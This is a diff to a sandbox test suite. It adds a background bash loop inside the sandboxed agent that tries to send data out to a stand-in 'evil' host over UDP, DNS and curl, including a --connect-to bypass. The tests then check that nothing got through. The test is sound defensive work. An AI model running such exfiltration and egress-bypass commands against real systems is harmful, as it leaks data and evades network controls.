@@ -57,6 +57,16 @@ describe("`up --refresh` repairs a sandbox", () => {
 });
 
 describe("without any command, a sandbox", () => {
+  const { evil } = internet.addresses;
+  // All the while somebody inside tries to get out, by every way that needs no capability.
+  const hostile = `while :; do
+    echo secret > /dev/udp/${evil}/9999; getent hosts secret.evil.test
+    curl -sk -m 1 https://${evil}/; curl -sk -m 1 --connect-to evil.test:443:allowed.test:443 https://evil.test/
+  done &> /dev/null`;
+  const attack = () => engine.ask("exec", "--detach", acme.agent, "bash", "-c", hostile);
+
+  beforeAll(attack);
+
   test("comes back when its gateway dies, and is shut meanwhile", async () => {
     const { gateway } = await acme.running();
     const { State } = await engine.inspect(acme.gateway);
@@ -81,6 +91,7 @@ describe("without any command, a sandbox", () => {
 
   test("comes back when its agent restarts", async () => {
     await engine.ask("restart", "--time", "1", acme.agent);
+    await attack();
     await expectWhole();
   });
 
@@ -118,5 +129,6 @@ describe("without any command, a sandbox", () => {
   test("let nothing through in all of this", async () => {
     expect(await internet.reached("evil.test")).toEqual({ packets: 0, bytes: 0, connections: 0 });
     expect((await internet.reached("neighbour.test")).connections).toBe(0);
+    expect(await internet.asked("evil.test")).toBe(0);
   });
 });
